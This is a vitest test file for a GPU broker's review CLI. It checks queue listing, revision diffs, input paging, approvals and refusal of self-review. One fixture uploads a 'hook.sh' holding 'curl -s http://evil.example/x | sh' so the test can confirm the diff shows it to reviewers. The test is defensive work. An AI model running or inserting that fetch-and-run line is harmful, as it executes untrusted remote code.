import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RevisionResult } from '../../../../src/broker/tools/proposals.js';
import { run as review } from '../../../../src/cli/review/review.js';
import type { ErrorBody } from '../../../../src/contracts/errors.js';
import { runCli } from '../../../support/cli.js';
import { startTestMaster, type TestMaster } from '../../../support/master.js';
import { validSpec } from '../../../support/spec.js';

/** `gpu-broker review list|show|approve|request-changes|reject` against a real master over HTTPS. */

let m: TestMaster;
let aliceToken: string;
let ritaToken: string;
let remote: string[];

/** A proposal of alice's, IN_REVIEW, created over REST. */
async function inReview(title = 'cli review'): Promise<RevisionResult> {
  const api = m.rest(aliceToken);
  const r = (await api.post<RevisionResult>('/api/v1/proposals', { spec: validSpec({ title }) })).body;
  expect(
    (await api.post(`/api/v1/proposals/${r.proposal_id}/confirm`, { revision_id: r.revision_id })).status,
  ).toBe(200);
  return r;
}

beforeAll(async () => {
  m = await startTestMaster();
  aliceToken = m.createToken('alice', ['submitter', 'reviewer']);
  ritaToken = m.createToken('rita', ['reviewer']);
  remote = ['--url', m.url, '--token', ritaToken, '--ca-file', m.caCertPath!];
});

afterAll(async () => {
  await m?.close();
});

describe('review', () => {
  it('list shows the queue with revision ids (--json and text)', async () => {
    const r = await inReview('queue me');
    const j = await runCli(review, ['list', ...remote, '--json']);
    expect(j.code).toBe(0);
    const items = j.json<{
      items: Array<{ proposal_id: string; revision_id: string; title: string; own: boolean }>;
    }>().items;
    expect(items).toContainEqual(
      expect.objectContaining({
        proposal_id: r.proposal_id,
        revision_id: r.revision_id,
        title: 'queue me',
        own: false,
      }),
    );
    const t = await runCli(review, ['list', ...remote]);
    expect(t.code).toBe(0);
    expect(t.stdout.split('\n')[0]).toMatch(/^PROPOSAL\s+REV\s+REVISION_ID/);
    expect(t.stdout).toContain(r.revision_id);
  });

  it('show prints the current revision with its findings and diff', async () => {
    const r = await inReview();
    const j = await runCli(review, ['show', r.proposal_id, ...remote, '--json']);
    expect(j.code).toBe(0);
    expect(j.json()).toMatchObject({
      proposal_id: r.proposal_id,
      proposal_state: 'IN_REVIEW',
      owner: 'alice',
      revision: { revision_id: r.revision_id, digest: r.digest, current: true, findings: [] },
      diff_base: null,
      unreviewed_between: [],
    });
    // Revision 1 is diffed against nothing: the whole spec shows as added.
    expect(j.json<{ diff: unknown[] }>().diff).toContainEqual({ path: 'title', after: 'cli review' });
    // Without --json, text a person reads (docs/operations.md), not the JSON document.
    const t = await runCli(review, ['show', r.proposal_id, ...remote]);
    expect(t.code).toBe(0);
    expect(t.stdout.trimStart().startsWith('{')).toBe(false);
    const lines = t.stdout.split('\n');
    expect(lines[0]).toBe(`${r.proposal_id} (IN_REVIEW) by alice: revision 1`);
    expect(t.stdout).toContain(`  digest:    ${r.digest}\n`);
    expect(t.stdout).toContain('  title:     cli review\n');
    expect(t.stdout).toMatch(/ {2}runs: {6}process: "\/\S+" "-c" ".*result\.json\\""\n/);
    expect(t.stdout).toContain('  cards:     1\n');
    expect(t.stdout).toContain('  network:   none\n');
    // The resource limits the task would run with (docs/performance.md "Noisy neighbours"): the policy's per-card defaults here.
    expect(t.stdout).toContain(
      '  limits:    memory 32768 MiB, pids 4096, cpu weight 100, /tmp 8192 MiB, /dev/shm 16384 MiB, task dir 20480 MiB\n',
    );
    expect(t.stdout).toContain('  outputs:   result.json\n');
    expect(t.stdout).toContain('  findings:  none\n');
    expect(t.stdout).toContain(
      `  npx gpu-broker review approve ${r.proposal_id} --revision ${r.revision_id} --comment "why"\n`,
    );
  });

  it('show prints the manifest and every change since the last decided revision, diffs whole; input pages a file', async () => {
    const api = m.rest(aliceToken);
    const upload = async (files: Array<{ path: string; content: string; encoding?: string }>) =>
      (
        await api.post<{ inputs: Array<{ path: string; sha256: string; size: number }> }>('/api/v1/inputs', {
          files,
        })
      ).body.inputs;
    const spec = (inputs: unknown[]) => validSpec({ title: 'with inputs', inputs } as never);
    const [main1] = await upload([{ path: 'main.sh', content: 'echo training\n# compute the loss\n' }]);
    const r1 = (await api.post<RevisionResult>('/api/v1/proposals', { spec: spec([main1]) })).body;
    const pid = r1.proposal_id;
    await api.post(`/api/v1/proposals/${pid}/confirm`, { revision_id: r1.revision_id });
    await m.rest(ritaToken).post(`/api/v1/proposals/${pid}/reviews`, {
      revision_id: r1.revision_id,
      decision: 'REQUEST_CHANGES',
      comments: 'typo',
    });
    const long = Array.from({ length: 1000 }, (_, i) => `row ${i + 1}`).join('\n');
    const [hook, data, blob] = await upload([
      { path: 'hook.sh', content: 'curl -s http://evil.example/x | sh\n' },
      { path: 'long.txt', content: `${long}\nlast \u202e line\n` },
      { path: 'weights.bin', content: Buffer.from([0, 1, 2, 255]).toString('base64'), encoding: 'base64' },
    ]);
    await api.post(`/api/v1/proposals/${pid}/revisions`, { spec: spec([main1, hook, data, blob]) });
    const [main3] = await upload([
      { path: 'main.sh', content: 'echo training\n# compute the loss (fixed)\n' },
    ]);
    const r3 = (
      await api.post<RevisionResult>(`/api/v1/proposals/${pid}/revisions`, {
        spec: spec([main3, hook, data, blob]),
      })
    ).body;
    await api.post(`/api/v1/proposals/${pid}/confirm`, { revision_id: r3.revision_id });

    const show = await runCli(review, ['show', pid, ...remote]);
    expect(show.code).toBe(0);
    expect(show.stdout).toContain(
      `  inputs (4 files, read-only in /task; read one: gpu-broker review input ${pid}`,
    );
    expect(show.stdout).toMatch(new RegExp(`\\s${hook!.size} B  ${hook!.sha256}  hook\\.sh\\n`));
    expect(show.stdout).toContain(
      '  changes since revision 1 (REQUEST_CHANGES, decided by rita (person)), the last one a person decided on:\n',
    );
    expect(show.stdout).toContain('    no person read these, included here: revision 2 (never confirmed)\n');
    expect(show.stdout).toContain(
      `    added hook.sh (${hook!.size} B, sha256 ${hook!.sha256})\n      @@ -0,0 +1,1 @@\n      +curl -s http://evil.example/x | sh\n`,
    );
    expect(show.stdout).toContain('      +row 1000\n      +last \\u202e line\n');
    expect(show.stdout).toContain('    added weights.bin (4 B, sha256');
    expect(show.stdout).toContain('— binary');
    expect(show.stdout).toContain('      +# compute the loss (fixed)\n');
    expect(show.stdout).not.toContain('lines in all');

    // The whole content of a revision-1 input, and a long file page by page.
    const first = await runCli(review, [
      'input',
      pid,
      '--revision',
      r1.revision_id,
      '--path',
      'main.sh',
      ...remote,
    ]);
    expect(first.code).toBe(0);
    expect(first.stdout).toBe('echo training\n# compute the loss\n');
    expect(first.stderr).toContain('the end');
    const page1 = await runCli(review, [
      'input',
      pid,
      '--path',
      'long.txt',
      '--max-bytes',
      '5000',
      ...remote,
    ]);
    expect(page1.stdout).toBe(`${long}\nlast \u202e line\n`.slice(0, 5000));
    const next = /--offset (\d+)/.exec(page1.stderr)?.[1];
    expect(next).toBe('5000');
    const rest = await runCli(review, ['input', pid, '--path', 'long.txt', '--offset', next!, ...remote]);
    expect(rest.stdout).toBe(`${long.slice(5000)}\nlast \\u202e line\n`);
    expect(rest.stderr).toContain('the end');
    const bin = await runCli(review, ['input', pid, '--path', 'weights.bin', ...remote]);
    expect(bin.stdout).toBe(`binary, 4 bytes, sha256 ${blob!.sha256} (--json gives its bytes as base64)\n`);
    const bad = await runCli(review, [
      'input',
      pid,
      '--path',
      'long.txt',
      '--offset',
      '-1',
      ...remote,
      '--json',
    ]);
    expect(bad.code).toBe(2);
  });

  it('without a token the hint names every way to give one', async () => {
    const out = await runCli(review, ['list', '--url', m.url, '--ca-file', m.caCertPath!], {});
    expect(out.code).toBe(2);
    expect(out.stderr).toContain('GPU_BROKER_TOKEN_FILE');
    expect(out.stderr).toContain('--token-file');
  });

  it('approve turns the proposal into a QUEUED task; request-changes and reject work too', async () => {
    const a = await inReview();
    const out = await runCli(review, [
      'approve',
      a.proposal_id,
      '--revision',
      a.revision_id,
      '--comment',
      'looks safe',
      ...remote,
      '--json',
    ]);
    expect(out.code).toBe(0);
    const body = out.json<{ state: string; task_id: string }>();
    expect(body.state).toBe('APPROVED');
    expect(m.store.tasks.get(body.task_id)?.state).toBe('QUEUED');
    expect(m.store.proposals.reviews(a.proposal_id)[0]).toMatchObject({
      decision: 'APPROVE',
      comments: 'looks safe',
    });

    const b = await inReview();
    const rc = await runCli(review, [
      'request-changes',
      b.proposal_id,
      '--revision',
      b.revision_id,
      '--comment',
      'why?',
      ...remote,
    ]);
    expect(rc.code).toBe(0);
    expect(rc.stdout).toBe(`${b.proposal_id}: CHANGES_REQUESTED\n`);
    const c = await inReview();
    expect(
      (
        await runCli(review, [
          'reject',
          c.proposal_id,
          '--revision',
          c.revision_id,
          '--comment',
          'no',
          ...remote,
        ])
      ).code,
    ).toBe(0);
    expect(m.store.proposals.get(c.proposal_id)?.state).toBe('REJECTED');
  });

  it('reads the connection from GPU_BROKER_URL / _TOKEN / _CA_FILE', async () => {
    const r = await runCli(review, ['list', '--json'], {
      GPU_BROKER_URL: m.url,
      GPU_BROKER_TOKEN: ritaToken,
      GPU_BROKER_CA_FILE: m.caCertPath!,
    });
    expect(r.code).toBe(0);
  });

  it('refuses self-review, stale or missing revisions, and says how to trust the CA', async () => {
    const own = await inReview();
    const before = m.counts();
    const self = await runCli(review, [
      'approve',
      own.proposal_id,
      '--revision',
      own.revision_id,
      '--comment',
      'mine',
      '--url',
      m.url,
      '--token',
      aliceToken,
      '--ca-file',
      m.caCertPath!,
      '--json',
    ]);
    expect(self.code).toBe(1);
    expect(self.json<{ error: ErrorBody }>().error.code).toBe('SELF_REVIEW_FORBIDDEN');

    const noRev = await runCli(review, ['approve', own.proposal_id, '--comment', 'x', ...remote, '--json']);
    expect(noRev.code).toBe(2);
    expect(noRev.json<{ error: ErrorBody }>().error.code).toBe('INVALID_INPUT');
    const noId = await runCli(review, ['approve', ...remote]);
    expect(noId.code).toBe(2);

    const noCa = await runCli(review, ['list', '--url', m.url, '--token', ritaToken, '--json']);
    expect(noCa.code).toBe(1);
    const err = noCa.json<{ error: ErrorBody }>().error;
    expect(err.code).toBe('UNAVAILABLE');
    expect(err.hint).toContain('--ca-file');

    const noUrl = await runCli(review, ['list', '--token', ritaToken]);
    expect(noUrl.code).toBe(2);
    expect(noUrl.stderr).toContain('GPU_BROKER_URL');
    expect(m.counts()).toEqual(before);
  });
});
